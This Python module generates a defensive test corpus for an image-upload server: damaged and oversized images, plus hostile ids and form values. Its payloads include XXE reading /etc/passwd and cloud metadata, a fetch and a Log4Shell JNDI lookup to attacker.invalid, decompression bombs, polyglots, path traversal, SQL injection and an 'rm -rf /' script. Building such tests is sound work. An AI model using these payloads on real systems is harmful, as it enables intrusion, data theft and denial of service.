"""The bad-input corpus, generated here (nothing committed): damaged, disguised, oversized and
odd images, hostile ids and absurd form values. Each upload says whether a careful server should
accept it (a valid if odd image) or refuse it with a 4xx; `either` where both are defensible."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any, Literal

import numpy as np
from PIL import Image

Expect = Literal["ok", "refused", "either"]
RED, BLUE = (255, 0, 0), (0, 0, 255)


@dataclass(frozen=True)
class Upload:
    """One hostile or odd file, as uploaded: a name, a declared type and its bytes."""

    name: str
    filename: str
    content_type: str
    data: bytes
    expect: Expect


def encode(image: Image.Image, image_format: str, **params: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, image_format, **params)
    return buffer.getvalue()


def png_chunk(tag: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))


def raw_png(width: int, height: int, depth: int, colour: int, rows: bytes) -> bytes:
    """A PNG from its IHDR fields and already-filtered scanlines (what Pillow cannot write)."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(rows, 9))
        + png_chunk(b"IEND", b"")
    )


def png_bomb(side: int) -> bytes:
    """A side x side black PNG: a few KiB that decode to side*side*3 bytes."""
    return raw_png(side, side, 8, 2, (b"\0" + b"\0" * side * 3) * side)


def gif_screen(width: int, height: int) -> bytes:
    """A GIF whose logical screen claims width x height around one 1x1 frame."""
    frame = encode(Image.new("P", (1, 1)), "GIF")
    return frame[:6] + struct.pack("<HH", width, height) + frame[10:]


def jpeg_sof(width: int, height: int) -> bytes:
    """A small JPEG with its frame header (SOF0) patched to claim width x height."""
    data = bytearray(encode(Image.new("RGB", (16, 16), RED), "JPEG"))
    at = data.index(b"\xff\xc0") + 5  # marker, length (2), precision (1), then height, width
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_scan_bomb(extra_scans: int) -> bytes:
    """A 3000x3000 progressive JPEG whose last scan is repeated: ~100 KB that takes libjpeg
    15 s to decode at 2,000 extra scans, because every scan re-walks every block."""
    data = encode(Image.new("RGB", (3000, 3000), (200, 100, 50)), "JPEG", progressive=True)
    last_scan = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last_scan * extra_scans + b"\xff\xd9"


def bmp_header(width: int, height: int) -> bytes:
    data = bytearray(encode(Image.new("RGB", (2, 2)), "BMP"))
    data[18:26] = struct.pack("<ii", width, height)
    return bytes(data)


def gif_frames(count: int, size: tuple[int, int] = (8, 8)) -> bytes:
    frames = [Image.new("RGB", size, (RED, BLUE)[i % 2]) for i in range(count)]  # none merged
    return encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=10)


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def random_bytes(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def drawing(size: tuple[int, int] = (64, 48)) -> Image.Image:
    image = Image.new("RGB", size, RED)
    image.paste(BLUE, (size[0] // 2, 0, size[0], size[1]))
    return image


def noise(size: tuple[int, int]) -> Image.Image:
    """Seeded random pixels: an image that compresses badly, so a cut lands in its pixels."""
    rng = np.random.default_rng(0)
    return Image.fromarray(rng.integers(0, 256, (size[1], size[0], 3), dtype=np.uint8))


def xmp_png(xmp: bytes) -> bytes:
    """A valid PNG carrying `xmp` in an iTXt XML:com.adobe.xmp chunk."""
    data = encode(drawing(), "PNG")
    chunk = png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xmp)
    return data[:-12] + chunk + data[-12:]


SVG_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">
 <!ENTITY remote SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">
<script>fetch('http://attacker.invalid/')</script><text>&xxe;&remote;</text>
<image href="http://attacker.invalid/x.png"/></svg>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>&lol4;</dc:creator>
</rdf:Description></rdf:RDF></x:xmpmeta>"""
XMP_XXE = BILLION_LAUGHS.replace(
    b'<!ENTITY lol "lol">', b'<!ENTITY lol SYSTEM "file:///etc/passwd">'
)


def exif_rotated(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encode(drawing((40, 20)), "JPEG", exif=exif.tobytes())


def sixteen_bit_rgb() -> bytes:
    row = b"\0" + b"".join(struct.pack(">HHH", 65535, x * 4000, 0) for x in range(8))
    return raw_png(8, 4, 16, 2, row * 4)


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def gif_html_polyglot() -> bytes:
    """A valid GIF whose comment is an HTML page: a browser sniffing it would run the script."""
    gif = encode(drawing((8, 8)), "GIF", comment=b"<html><script>alert(document.domain)</script>")
    return gif


ODD_IMAGES: dict[str, Callable[[], bytes]] = {
    "1x1": lambda: encode(Image.new("RGB", (1, 1), RED), "PNG"),
    "1x10000": lambda: encode(Image.new("RGB", (1, 10000), RED), "PNG"),
    "10000x1": lambda: encode(Image.new("RGB", (10000, 1), BLUE), "PNG"),
    "2x3000-jpeg": lambda: encode(Image.new("RGB", (2, 3000), BLUE), "JPEG"),
    "16-bit-grey-png": lambda: encode(Image.fromarray(np.full((8, 8), 40000, np.uint16)), "PNG"),
    "16-bit-rgb-png": sixteen_bit_rgb,
    "16-bit-grey-tiff": lambda: encode(
        Image.fromarray(np.arange(64, dtype=np.uint16).reshape(8, 8) * 999), "TIFF"
    ),
    "float-tiff": lambda: encode(Image.fromarray(np.full((8, 8), np.nan, np.float32)), "TIFF"),
    "cmyk-jpeg": lambda: encode(Image.new("CMYK", (16, 16), (0, 255, 0, 0)), "JPEG"),
    "cmyk-tiff": lambda: encode(Image.new("CMYK", (16, 16), (0, 255, 0, 0)), "TIFF"),
    "palette-trns-png": lambda: encode(Image.new("P", (8, 8), 0), "PNG", transparency=0),
    "la-png": lambda: encode(Image.new("LA", (8, 8), (10, 0)), "PNG"),
    "1-bit-png": lambda: encode(Image.new("1", (9, 9), 1), "PNG"),
    "fully-transparent-rgba": lambda: encode(Image.new("RGBA", (8, 8), (0, 0, 0, 0)), "PNG"),
    "exif-rotate-6": lambda: exif_rotated(6),
    "exif-rotate-8": lambda: exif_rotated(8),
    "exif-orientation-99": lambda: exif_rotated(99),
    "gif-300-frames": lambda: gif_frames(300),
    "tiff-3-pages": lambda: encode(
        drawing(), "TIFF", save_all=True, append_images=[drawing((8, 8)), drawing((300, 2))]
    ),
    "webp-animated": lambda: encode(
        drawing(), "WEBP", save_all=True, append_images=[drawing()], lossless=True
    ),
    "png-bomb-4000px": lambda: png_bomb(4000),
    "png-with-zip-appended": lambda: encode(drawing(), "PNG") + zip_bytes({"evil.sh": b"rm -rf /"}),
    "gif-html-polyglot": gif_html_polyglot,
    "png-xmp-billion-laughs": lambda: xmp_png(BILLION_LAUGHS),
    "png-xmp-external-entity": lambda: xmp_png(XMP_XXE),
    "jpeg-trailing-garbage": lambda: encode(drawing(), "JPEG") + random_bytes(5000, 7),
}

BAD_FILES: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "one-byte": lambda: b"\x89",
    "png-magic-only": lambda: b"\x89PNG\r\n\x1a\n",
    "truncated-png": lambda: truncated(encode(noise((256, 256)), "PNG")),
    "truncated-jpeg": lambda: truncated(encode(drawing((256, 256)), "JPEG")),
    "truncated-gif": lambda: truncated(encode(noise((256, 256)), "GIF")),
    "truncated-tiff": lambda: truncated(encode(drawing((256, 256)), "TIFF")),
    "avif": lambda: encode(drawing(), "AVIF"),  # refused: its frame size is not bounded first
    "avif-animated-alpha": lambda: encode(
        drawing().convert("RGBA"), "AVIF", save_all=True, append_images=[drawing().convert("RGBA")]
    ),
    "truncated-avif": lambda: truncated(encode(noise((256, 256)), "AVIF")),
    "avif-brand-then-random": lambda: (
        b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + random_bytes(4096, 6)
    ),
    "random-1k": lambda: random_bytes(1024, 1),
    "random-64k": lambda: random_bytes(65536, 2),
    "png-magic-then-random": lambda: b"\x89PNG\r\n\x1a\n" + random_bytes(4096, 3),
    "jpeg-magic-then-random": lambda: b"\xff\xd8\xff\xe0" + random_bytes(4096, 4),
    "gif-magic-then-random": lambda: b"GIF89a" + random_bytes(4096, 5),
    "text-as-png": lambda: b"hello, this is not an image\n",
    "html-as-jpg": lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "pdf-as-png": lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer\n%%EOF",
    "zip-as-png": lambda: zip_bytes({"a.png": encode(drawing(), "PNG")}),
    "svg-xxe-script": lambda: SVG_XXE,
    "svg-billion-laughs": lambda: BILLION_LAUGHS.replace(b"x:xmpmeta", b"svg"),
    "svg-gzipped": lambda: zlib.compress(SVG_XXE),
    "eps": lambda: encode(drawing(), "EPS"),
    "ico": lambda: encode(drawing((16, 16)), "ICO"),
    "ppm": lambda: encode(drawing(), "PPM"),
    "png-ihdr-100000x100000": lambda: raw_png(100_000, 100_000, 8, 2, b""),
    "png-ihdr-zero-width": lambda: raw_png(0, 10, 8, 2, b""),
    "png-ihdr-bad-depth": lambda: raw_png(8, 8, 7, 2, b"\0" * 100),
    "png-bomb-8000px": lambda: png_bomb(8000),
    "gif-screen-65535": lambda: gif_screen(65535, 65535),
    "jpeg-sof-65535": lambda: jpeg_sof(65535, 65535),
    "jpeg-sof-zero": lambda: jpeg_sof(0, 0),
    "jpeg-progressive-scan-bomb": lambda: jpeg_scan_bomb(2000),
    "bmp-50000x50000": lambda: bmp_header(50000, 50000),
    "bmp-negative-size": lambda: bmp_header(-5, -(2**31)),
    "gif-1001-frames": lambda: gif_frames(1001, (1, 1)),
    "gif-big-screen-200-frames": lambda: _big_gif(),
    "html-with-gif-magic": lambda: b"GIF89a<html><script>alert(1)</script></html>",
    "elf": lambda: b"\x7fELF\x02\x01\x01" + bytes(100),
}


def _big_gif() -> bytes:
    """200 one-pixel frames on a 4000x3000 logical screen: 2.4 billion pixels declared."""
    data = gif_frames(200, (1, 1))
    return data[:6] + struct.pack("<HH", 4000, 3000) + data[10:]


def uploads() -> Iterator[Upload]:
    """Every file of the corpus, under a misleading name and type where that is the trick."""
    names = [("x.png", "image/png"), ("x.jpg", "image/jpeg"), ("x", "application/octet-stream")]
    for i, (name, make) in enumerate(ODD_IMAGES.items()):
        filename, content_type = names[i % len(names)]
        yield Upload(name, filename, content_type, make(), "ok")
    for i, (name, make) in enumerate(BAD_FILES.items()):
        filename, content_type = names[i % len(names)]
        yield Upload(name, filename, content_type, make(), "refused")


HOSTILE_IDS = [
    "../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "alice/../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "alice/./x.png",
    "alice//x.png",
    ".",
    "..",
    "a\x00b",
    "alice/x.png\x00.jpg",
    "a\nb",
    "a\rX-Injected: 1",
    "'; DROP TABLE works;--",
    "alice' OR '1'='1",
    'alice"; DELETE FROM keys; --',
    "x" * 10_000,
    "alice/" + "y/" * 3000 + "z.png",
    "\u202egnp.exe",
    "ａｌｉｃｅ",
    "alice\u200b",
    "alice\ufeff",
    "Ａ/../x",
    "😀/🎨.png",
    "a\u0301",
    "${jndi:ldap://attacker.invalid/a}",
    "<script>alert(1)</script>",
    "%00",
    "%2e%2e/%2e%2e/etc/passwd",
    "CON",
    " ",
    "",
]

TOP_K = [
    "0",
    "-1",
    str(10**12),
    "abc",
    "",
    " 5",
    "1e3",
    "3.5",
    "NaN",
    "٣",
    "99999999999999999999999",
]
